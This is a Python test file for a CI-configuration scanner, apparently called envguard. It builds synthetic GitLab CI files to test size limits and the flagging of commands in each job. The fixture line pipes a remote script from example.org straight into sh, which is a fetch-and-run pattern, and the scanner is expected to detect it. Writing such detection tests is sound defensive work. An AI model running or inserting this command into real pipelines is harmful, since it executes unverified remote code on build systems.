"""A file whose scripts repeat each other beyond measure is one that is not read, never one that
passes."""

from __future__ import annotations

from envguard.testing import check_files

LINE = "  - curl https://example.org/a.sh | sh\n"


def gitlab(lines: int, jobs: int) -> str:
    head = "default:\n  before_script:\n" + "".join(f"  - echo {n:0100}\n" for n in range(lines))
    return head + "".join(f"job{n}:\n  script:\n{LINE}" for n in range(jobs))


def test_scripts_that_are_too_many_are_said_not_to_be_read() -> None:
    result = check_files({".gitlab-ci.yml": gitlab(300, 300)})
    said = [one for one in result.reported if one.code == "EGD001"]
    assert ["too often" in one.finding.values["reason"] for one in said] == [True]


def test_many_jobs_with_a_script_before_each_are_read() -> None:
    result = check_files({".gitlab-ci.yml": gitlab(5, 60)})
    codes = [one.code for one in result.reported]
    assert "EGD001" not in codes
    assert codes.count("CMD006") == 60
